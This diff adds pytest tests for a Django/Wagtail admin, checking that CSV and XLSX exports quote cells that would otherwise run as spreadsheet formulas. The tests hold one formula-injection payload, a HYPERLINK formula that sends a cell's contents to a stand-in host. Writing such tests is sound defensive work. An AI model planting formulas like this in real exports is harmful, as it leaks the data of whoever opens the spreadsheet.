@@ -1,0 +1,63 @@
+"""Spreadsheets of the admin: the columns of the table, and no formula."""
+
+import csv
+import io
+
+import pytest
+from django.contrib.auth import get_user_model
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from hub.backoffice.exports import neutralise
+from hub.people.models import PersonCategory
+from tests.factories import NewsletterPageFactory, PersonFactory, ResourcePageFactory
+
+FORMULA = '=HYPERLINK("https://example.org/?"&A1)'
+
+
+def rows_of(response):
+    text = b"".join(response.streaming_content).decode()
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_neutralise_quotes_what_would_become_a_formula(start):
+    assert neutralise(f"{start}1+1") == f"'{start}1+1"
+
+
+@pytest.mark.parametrize("text", ["", "Élue", "1 - 1", "« = »"])
+def test_neutralise_leaves_words_alone(text):
+    assert neutralise(text) == text
+
+
+def test_csv_of_people_has_the_columns_of_the_list(superuser_client):
+    PersonFactory(name="Anaïs L’Hévéder", category=PersonCategory.ELU)
+    url = reverse("wagtailsnippets_people_person:list")
+    (row,) = rows_of(superuser_client.get(url, {"export": "csv"}))
+    assert row["Nom"] == "Anaïs L’Hévéder"
+    assert row["Catégorie"] == "Élu·e"
+    assert row["Fonction"] == ""
+
+
+def test_csv_of_a_list_cannot_run_a_formula(superuser_client):
+    ResourcePageFactory(title=FORMULA, author="@auteur")
+    (row,) = rows_of(superuser_client.get(reverse("resources:index"), {"export": "csv"}))
+    assert row["Titre"] == f"'{FORMULA}"
+    assert row["Auteur"] == "'@auteur"
+
+
+def test_csv_of_wagtail_itself_cannot_run_a_formula(superuser_client):
+    page = ResourcePageFactory(title=FORMULA)
+    page.save_revision(user=get_user_model().objects.first(), log_action=True)
+    url = reverse("wagtailadmin_reports:site_history")
+    text = b"".join(superuser_client.get(url, {"export": "csv"}).streaming_content).decode()
+    assert f"'{FORMULA[:10]}" in text
+    assert f',"{FORMULA[:10]}' not in text
+
+
+def test_xlsx_of_a_list_holds_text_and_not_formulas(superuser_client):
+    NewsletterPageFactory(title=FORMULA, number=4)
+    response = superuser_client.get(reverse("letters:index"), {"export": "xlsx"})
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    assert [cell.value for cell in sheet[1]][:2] == ["Titre", "Numéro"]
+    assert sheet["A2"].data_type == "s"
